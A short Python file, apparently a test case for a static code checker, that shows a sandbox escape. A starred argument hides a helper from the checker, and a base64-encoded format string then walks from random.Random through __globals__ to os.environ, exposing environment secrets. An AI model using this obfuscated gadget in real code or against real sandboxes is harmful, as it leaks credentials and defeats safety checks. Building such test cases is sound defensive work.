# family: format
# Escape: positional Name arguments mark a table as handed out, but `*[TABLE]` is a Starred node, not a Name,
# so the helper that rewrites the table goes unseen. The rewritten item, "{0.__init__.__globals__[_os].environ}"
# (base64), is then trusted as a literal and walks from random.Random to os.environ.
import base64
import random

TEXTS = {"title": "{0}"}


def patch(table: dict, text: str) -> None:
    table["title"] = text


def tool() -> str:
    patch(*[TEXTS], base64.b64decode("ezAuX19pbml0X18uX19nbG9iYWxzX19bX29zXS5lbnZpcm9ufQ==").decode())
    return TEXTS["title"].format(random.Random())
